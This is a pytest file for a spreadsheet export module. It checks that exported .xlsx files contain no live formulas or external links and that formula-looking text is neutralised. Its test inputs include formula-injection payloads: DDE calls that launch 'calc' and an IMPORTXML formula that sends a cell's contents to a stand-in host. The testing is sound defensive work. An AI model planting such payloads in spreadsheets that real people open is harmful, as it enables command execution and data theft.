"""T13: what a cell could do to whoever opens it. Read back by openpyxl and, beside it, from the raw XML."""

import re
import tempfile
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape

from exports import workbook
from exports.kinds import Column, Sheet, Value
from exports.workbook import MOST_CHARACTERS, Cover

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COVER = Cover([("申请人", "=王小明"), ("筛选条件", "+无")], "仅供内部使用 & 王小明")

FORMULAS = [
    *("=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x","点")'),
    *('=IMPORTXML(CONCAT("http://x/?",A1),"//a")', '=DDE("cmd";"/C calc";"x")', "=1+1\n=2+2", "==1", "=", "= 1"),
    *("=-1", "=+1", "=@A1", "-2+3+cmd|' /C calc'!A0", "@A1", "+cmd", "-cmd", "=A1&B1", "=TRUE()", "={1,2}", "=$A$1"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠A1"),
    *("'=1+1", '"=1+1"', ";=1+1", ",=1+1", "%0A-1+1", "|calc", "=\u202e1+1", '=WEBSERVICE("http://x")', "=NOW()"),
]
ODD = [
    *(
        "#N/A",
        "#REF!",
        "#DIV/0!",
        "#VALUE!",
        "#NAME?",
        "TRUE",
        "1E5",
        "00123",
        "1-2",
        "2026-09-07",
        "3301000012345678901",
    ),
    *("13800001234", "<b>x</b>", "&amp;", "]]>", "_x0041_", "_x000D_x", "__x0041__", "_xZZZZ_", "_x005F_x0041_"),
    *(
        "甲\x00乙",
        "甲\x01乙",
        "\x08",
        "\x0b",
        "\x1f",
        "\x7f",
        "\ud800",
        "\ufffe",
        "\uffff",
        "行一\r\n行二",
        "行一\r行二",
    ),
    *("𠮷野家 😀", "e\u0301", "  前后空格  ", "长" * 32_767, "长" * 32_768, "=" * 40_000, "x" * 100_000),
]
CELLS = [*FORMULAS, *ODD]


def written(tmp_path: Path, rows: list[list[Value]], cover: Cover = COVER) -> Path:
    path = tmp_path / "x.xlsx"
    columns = [Column("=甲"), Column("乙", 30)]
    list(workbook.write(path, [Sheet("=表/一", columns, rows)], cover))
    return path


def told(text: str) -> str:
    """What a cell shall show for a text: the text, unless no cell could hold it."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    text = "".join(chr(0x2400 + ord(c)) if ord(c) < 32 and c not in "\t\n" else c for c in text)
    return "".join(
        "\u2421" if c == "\x7f" else "\ufffd" if re.match("[\ud800-\udfff\ufffe\uffff]", c) else c for c in text
    )


def naive(text: str) -> datetime:
    """As a cell holds it: without a zone."""
    return datetime.fromisoformat(text)


def xml_of(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode()


def test_there_are_enough_cells_to_fear() -> None:
    assert len(set(CELLS)) >= 60
    assert sum(len(text) > MOST_CHARACTERS for text in CELLS) >= 3


def test_every_text_comes_back_as_text_and_equal(tmp_path: Path) -> None:
    path = written(tmp_path, [[n, text] for n, text in enumerate(CELLS)])
    page = load_workbook(path).worksheets[0]
    rows = list(page.iter_rows(min_row=2))
    assert len(rows) == len(CELLS)
    for (number, cell), text in zip(rows, CELLS, strict=True):
        assert number.data_type == "n"
        if text == "":
            continue
        assert cell.data_type == "s", text[:40]
        value = unescape(str(cell.value))
        if len(text) <= MOST_CHARACTERS:
            assert value == told(text), text[:40]
        else:
            assert len(value) <= MOST_CHARACTERS
            assert value.startswith(text[:30_000])
            assert f"共 {len(text)} 字" in value, "what is missing is said"


def test_the_raw_file_holds_no_formula_and_no_link_to_elsewhere(tmp_path: Path) -> None:
    """Whatever a library makes of it: no ``<f>``, no defined name that computes, no external part."""
    path = written(tmp_path, [[text, text] for text in CELLS])
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        cells = 0
        for name in names:
            content = archive.read(name)
            root = ElementTree.fromstring(content) if name.endswith((".xml", ".rels")) else None
            if root is not None and "worksheets" in name:
                assert not list(root.iter(f"{MAIN}f"))
                assert {cell.get("t", "n") for cell in root.iter(f"{MAIN}c")} <= {"inlineStr", "s", "n", "d"}
                cells += len(list(root.iter(f"{MAIN}c")))
            assert b"TargetMode" not in content
    assert cells >= 2 * len(CELLS)
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]


def test_texts_that_look_like_formulas_stay_asleep_when_edited(tmp_path: Path) -> None:
    """The quote prefix: a program that takes the cell's text up again does not compute it."""
    path = written(tmp_path, [["=1+1", "@x"], ["harmless", "-1"]])
    page = load_workbook(path).worksheets[0]
    assert [bool(cell.quotePrefix) for row in page.iter_rows(min_row=2) for cell in row] == [True, True, False, True]


def test_a_broken_library_would_be_noticed(tmp_path: Path) -> None:
    """The check above can fail: openpyxl by itself makes a formula of such a text."""
    book = Workbook()
    book.worksheets[0].append(["=1+1"])
    book.save(tmp_path / "bad.xlsx")
    root = ElementTree.fromstring(xml_of(tmp_path / "bad.xlsx", "xl/worksheets/sheet1.xml"))
    assert list(root.iter(f"{MAIN}f"))


def test_numbers_days_and_moments_are_cells_of_their_type(tmp_path: Path) -> None:
    moment = datetime(2026, 9, 7, 1, 30, tzinfo=UTC)
    rows: list[list[Value]] = [
        [7, 1.5],
        [Decimal("12.30"), date(2026, 9, 7)],
        [moment, True],
        [10**16, float("nan")],
        [None, ""],
    ]
    page = load_workbook(written(tmp_path, rows)).worksheets[0]
    values: list[Any] = [cell.value for row in page.iter_rows(min_row=2) for cell in row]
    assert values[:4] == [7, 1.5, 12.3, naive("2026-09-07")]
    assert values[4] == naive("2026-09-07 09:30"), "Shanghai time"
    assert values[5:] == ["是", str(10**16), None]


def test_the_cover_and_every_printed_page_say_who_took_it(tmp_path: Path) -> None:
    book = load_workbook(written(tmp_path, [["x", "y"]]))
    page, cover = book.worksheets
    assert cover.title == "导出说明"
    assert [cell.value for cell in cover["A"]] == ["申请人", "筛选条件"]
    assert [cell.value for cell in cover["B"]] == ["=王小明", "+无"]
    assert page.oddHeader is not None
    assert "仅供内部使用" in str(page.oddHeader.center.text)
    assert page.print_title_rows == "$1:$1"
    assert page.freeze_panes == "A2"


def test_a_table_longer_than_a_sheet_goes_on_in_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 10)
    book = load_workbook(written(tmp_path, [[n, ""] for n in range(25)]))
    counts = [page.max_row - 1 for page in book.worksheets[:-1]]
    assert counts == [10, 10, 5]
    assert [page.cell(1, 1).value for page in book.worksheets[:-1]] == ["=甲"] * 3


def test_nothing_is_written_outside_the_folder_of_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The system's folder for temporary files may be read-only or small; what is spooled is gone with the end."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "not there"))
    path = tmp_path / "x.xlsx"
    spooled = 0
    for _written in workbook.write(
        path, [Sheet("表", [Column("甲"), Column("乙")], [[n, ""] for n in range(5)])], COVER
    ):
        spooled = max(spooled, len(list(tmp_path.glob("*.part"))))
    assert spooled == 1
    assert [one.name for one in tmp_path.iterdir()] == ["x.xlsx"]
    unfinished = workbook.write(path, [Sheet("表", [Column("甲"), Column("乙")], [[n, ""] for n in range(5)])], COVER)
    next(unfinished)
    unfinished.close()  # type: ignore[attr-defined]  # a generator
    assert [one.name for one in tmp_path.iterdir()] == ["x.xlsx"]
